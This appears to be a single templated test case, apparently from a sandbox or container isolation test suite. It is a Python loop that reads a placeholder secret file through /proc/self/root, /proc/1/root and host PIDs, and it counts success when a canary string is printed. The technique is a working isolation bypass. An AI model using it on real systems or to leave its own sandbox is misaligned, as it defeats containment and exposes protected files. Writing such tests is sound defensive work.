# class: proc
# technique: /proc/1/root and /proc/self/root as another way to the root
# success: output_has @@CANARY@@
for pid in ('self', '1', '@@HOSTPID@@', '@@VPID@@'):
    try: print(open('/proc/%s/root@@SECRET@@' % pid).read())
    except OSError as e: print(e)
